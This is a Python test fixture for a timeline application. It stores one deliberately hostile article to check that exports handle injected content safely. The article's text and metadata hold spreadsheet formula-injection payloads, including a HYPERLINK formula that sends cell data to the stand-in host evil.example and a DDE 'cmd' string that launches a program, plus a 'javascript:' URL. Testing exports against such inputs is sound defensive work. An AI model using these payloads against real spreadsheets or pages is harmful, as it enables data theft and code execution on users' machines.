"""A real Repository holding hand-analysed articles, for export tests."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest

from timeline_app.articles import ParsedArticle, PublishedSource
from timeline_app.events import build_events
from timeline_app.store.repository import Repository
from timeline_app.temporal.timex import AnchorKind, Interval, Precision, Timex, TimexType

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click") was posted on Jan. 4, 2024.\n\n'
    "+cmd|' /C calc'!A0 spread on Jan. 5, 2024, officials said.\n\n"
    "-2+3 votes were counted on Jan. 6, 2024; @SUM(1,2) followed."
)


def day_timex(text: str, expression: str, day: datetime) -> Timex:
    """An absolute day timex for ``expression`` in ``text``."""
    offset = text.index(expression)
    return Timex(
        start=offset,
        end=offset + len(expression),
        text=expression,
        type=TimexType.DATE,
        value=day.date().isoformat(),
        interval=Interval(day, day.replace(day=day.day + 1)),
        precision=Precision.DAY,
        rule="hand-made",
        anchor_kind=AnchorKind.NONE,
    )


def store_article(repo: Repository, parsed: ParsedArticle, timexes: list[Timex]) -> int:
    article, _ = repo.add_article(parsed)
    events = build_events(parsed.text, timexes, parsed.published, article.id)
    repo.replace_analysis(article.id, timexes, events)
    return article.id


@pytest.fixture
def hostile_repo(tmp_path: Path) -> Iterator[Repository]:
    """A library with one hostile article: formulas at the start of every sentence."""
    with Repository(tmp_path / "hostile.db") as repo:
        store_article(
            repo,
            ParsedArticle(
                text=HOSTILE,
                title='=1+1 "quoted", title',
                source="@evil",
                url="javascript:alert(1)",
                published=date(2024, 1, 8),
                published_source=PublishedSource.METADATA,
            ),
            [
                day_timex(HOSTILE, "Jan. 4, 2024", datetime(2024, 1, 4)),
                day_timex(HOSTILE, "Jan. 5, 2024", datetime(2024, 1, 5)),
                day_timex(HOSTILE, "Jan. 6, 2024", datetime(2024, 1, 6)),
            ],
        )
        yield repo
